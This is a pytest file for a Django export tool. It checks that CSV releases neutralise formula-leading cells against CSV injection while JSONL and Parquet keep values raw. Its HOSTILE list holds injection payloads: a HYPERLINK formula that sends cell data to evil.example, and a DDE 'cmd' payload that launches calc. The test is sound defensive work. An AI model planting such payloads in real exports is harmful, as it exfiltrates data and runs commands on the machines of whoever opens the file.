"""CSV releases neutralise cells a spreadsheet would run as formulas (OWASP CSV injection); JSONL and Parquet
keep the value as imported."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command

from exports.writers.csv import cell
from tests.builders import load_records, sample_records

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1"]


def test_formula_leading_cells_get_a_quote_in_csv_and_stay_raw_in_jsonl_and_parquet(make_project, tmp_path) -> None:
    project = make_project("tc")
    records = sample_records("tc", 12)
    for record, text in zip(records, HOSTILE, strict=False):
        record["title"] = text
    load_records(project, records)
    stdout = StringIO()
    call_command("build_release", project.slug, "--version", "1.0.0", "--format", "jsonl,csv,parquet",
                 "--out", str(tmp_path / "out"), "--seed", "2", "--json", stdout=stdout)
    result = json.loads(stdout.getvalue())
    folder = Path(result["out"])
    csv_titles, jsonl_titles, parquet_titles = set(), set(), set()
    for split, n in result["splits"].items():
        if not n:
            continue
        with open(folder / "csv" / f"{split}.csv", encoding="utf-8", newline="") as stream:
            csv_titles |= {row["title"] for row in csv.DictReader(stream)}
        jsonl_titles |= {json.loads(line)["title"]
                         for line in (folder / "jsonl" / f"{split}.jsonl").read_text("utf-8").splitlines()}
        parquet_titles |= {row["title"] for row in pq.read_table(folder / "parquet" / f"{split}.parquet").to_pylist()}
    for text in HOSTILE:
        assert "'" + text in csv_titles
        assert text not in csv_titles
        assert text in jsonl_titles and text in parquet_titles
    # Ordinary titles are written as they are.
    assert records[-1]["title"] in csv_titles


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (-1, -1), (-0.5, -0.5), (["=x"], '["=x"]'), (None, ""), (True, "true"),
])
def test_cell_escapes_only_formula_leading_text(value, expected) -> None:
    assert cell(value) == expected
